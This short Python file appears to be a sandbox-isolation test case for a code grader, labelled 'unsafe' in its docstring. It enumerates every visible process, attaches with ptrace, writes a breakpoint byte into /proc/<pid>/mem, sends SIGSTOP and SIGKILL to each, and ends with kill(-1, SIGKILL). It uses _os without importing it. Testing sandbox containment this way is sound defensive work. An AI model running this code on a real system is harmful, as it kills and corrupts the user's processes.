"""Signals every process it can: kill(-1), its parent, every pid it can see; tries to ptrace
each of them and to write /proc/<pid>/mem; in the sandbox that must reach nothing of the judge,
the runner or the fork server. The grading of its own exercise still ends with a verdict.
plain: unsafe
"""
import ctypes as _ctypes
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)
_me = _os.getpid()
for _pid in sorted({int(p) for p in _os.listdir("/proc") if p.isdigit()} | {_os.getppid()}):
    if _pid in (0, _me):
        continue
    _libc.ptrace(16, _pid, None, None)  # PTRACE_ATTACH
    try:
        with open(f"/proc/{_pid}/mem", "wb") as _f:
            _f.seek(0x400000)
            _f.write(b"\xcc")
    except OSError:
        pass
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_pid, _sig)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGKILL)  # every process this user may signal, but not itself
except OSError:
    pass
